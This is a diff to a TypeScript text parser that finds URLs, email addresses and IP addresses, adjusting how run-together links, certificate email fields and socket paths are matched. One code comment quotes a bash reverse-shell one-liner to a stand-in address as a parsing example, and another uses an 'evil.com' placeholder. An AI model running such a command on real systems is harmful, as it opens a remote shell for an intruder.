@@ -24,7 +24,10 @@ const MAX_EMAIL_LOCAL = 64;
 const MAX_HOST = 253;
 const MAX_IPV6 = 50;
 
-const URL_START = /\b(?:https?|ftps?|wss?):\/\//gi;
+// No word boundary in front: `…/athletehttps://t.co/x` is two links run together.
+const URL_START = /(?:https?|ftps?|wss?):\/\//gi;
+/** A scheme inside a URL starts the next one (a sticky copy, tried at one position). */
+const NESTED_SCHEME = /(?:https?|ftps?|wss?):\/\//iy;
 /** A URL ends at whitespace, quotes, angle brackets and the characters RFC 3986 excludes. */
 const URL_STOP = /[\s<>"'`{}|\\^\u201C\u201D\u2018\u2019\u00AB\u00BB\u3000]/;
 /** Punctuation that ends a sentence rather than a URL. */
@@ -74,7 +77,7 @@ function isUrlStop(text: string, index: number): boolean {
 function urlEnd(text: string, start: number): number {
   let end = start;
   const limit = Math.min(text.length, start + MAX_URL_LENGTH + 64);
-  while (end < limit && !isUrlStop(text, end)) end++;
+  while (end < limit && !isUrlStop(text, end) && !startsScheme(text, end)) end++;
   for (;;) {
     const last = text[end - 1] as string;
     if (URL_TRAILING.test(last)) {
@@ -88,6 +91,14 @@ function urlEnd(text: string, start: number): number {
     end--;
   }
   return end;
+}
+
+/** Whether a scheme (`https://`) starts at `index`: only ever tested at an `h`, `f` or `w` followed by more. */
+function startsScheme(text: string, index: number): boolean {
+  const code = text.charCodeAt(index) | 0x20;
+  if (code !== 0x68 && code !== 0x66 && code !== 0x77) return false;
+  NESTED_SCHEME.lastIndex = index;
+  return NESTED_SCHEME.test(text);
 }
 
 function findUrls(text: string, out: Candidate[]): void {
@@ -136,6 +147,10 @@ function findEmails(text: string, out: Candidate[], claimed: Claimed): void {
   for (let at = text.indexOf('@'); at !== -1; at = text.indexOf('@', at + 1)) {
     let start = at;
     while (start > 0 && at - start < MAX_EMAIL_LOCAL && has(text, start - 1, LOCAL)) start--;
+    // `emailAddress=x@evil.com` (a certificate's subject): the field name is not the local part.
+    let field = at - 1;
+    while (field >= start && text.charCodeAt(field) !== 61 /* = */) field--;
+    if (field >= start && /^[A-Za-z]+$/.test(text.slice(start, field))) start = field + 1;
     while (start < at && (text[start] === '.' || text[start] === '/' || text[start] === '=')) start++;
     let end = at + 1;
     while (end < text.length && end - at <= MAX_HOST && has(text, end, DOMAIN)) end++;
@@ -171,9 +186,13 @@ function findIpv6(text: string, out: Candidate[], claimed: Claimed): void {
   }
 }
 
+/** `bash -i >& /dev/tcp/203.0.113.7/4444`: a shell's socket path names an address and a port, not a URL. */
+const SOCKET_PATH = /\/dev\/(?:tcp|udp)\/$/;
+
 /** After a host run: `/24` makes a network, `/path` a URL without a scheme. */
-function hostTail(text: string, end: number): { kind: 'cidr' | 'path' | 'none'; end: number } {
+function hostTail(text: string, start: number, end: number): { kind: 'cidr' | 'path' | 'none'; end: number } {
   if (text[end] !== '/') return { kind: 'none', end };
+  if (SOCKET_PATH.test(text.slice(Math.max(0, start - 9), start))) return { kind: 'none', end };
   const ahead = text.slice(end, end + 5);
   const cidr = CIDR_SUFFIX.exec(ahead);
   if (cidr !== null) return { kind: 'cidr', end: end + cidr[0].length };
@@ -195,7 +214,7 @@ function classifyRun(text: string, start: number, end: number, out: Candidate[])
   if (run.length > MAX_HOST) return;
   const isQuad = DOTTED_QUAD.test(run);
   if (!isQuad && !HAS_LETTER.test(run)) return; // version numbers: 1.4.12, 10.0.19041.1
-  const tail = hostTail(text, end);
+  const tail = hostTail(text, start, end);
   if (tail.kind === 'path') {
     out.push({ type: 'url', start, end: tail.end, value: text.slice(start, tail.end) });
     return;
